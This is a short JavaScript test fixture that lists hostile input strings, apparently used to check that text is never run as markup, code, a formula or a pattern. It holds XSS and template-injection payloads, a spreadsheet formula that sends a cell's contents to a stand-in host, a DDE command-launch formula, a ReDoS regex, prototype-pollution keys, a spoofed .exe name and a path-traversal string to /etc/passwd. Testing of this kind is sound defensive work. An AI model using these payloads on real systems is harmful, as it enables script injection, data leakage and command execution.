/** Texts that would do something where anything took them for markup, code, a formula or a pattern. None has a quote of JavaScript's. */
export const SCRIPT_TEXT =
	'<img src=x onerror=globalThis.__ran=1><script>globalThis.__ran=1</script>';

export const SCRIPT_TEXTS = [
	SCRIPT_TEXT,
	'<svg onload=globalThis.__ran=1>',
	'<x-y onfocus=globalThis.__ran=1 autofocus tabindex=0>',
	'</title></textarea></style></script><script>globalThis.__ran=1</script>',
	'javascript:globalThis.__ran=1',
	'{{constructor.constructor(globalThis.__ran=1)}}',
	'${globalThis.__ran=1}',
	'=HYPERLINK("https://example.org/"&A1)',
	'@SUM(1+1)*cmd|/c calc!A0',
	'(((((((((a+)+)+)+)+)+)+)+)+)$',
	'__proto__',
	'constructor',
	'prototype',
	'hasOwnProperty',
	'toString',
	'\u202egnp.exe',
	'\u0000\u0007\u001b[31m',
	'../../../../etc/passwd',
	'%00%2e%2e%2f',
	'null',
	'a'.repeat(9_000)
];
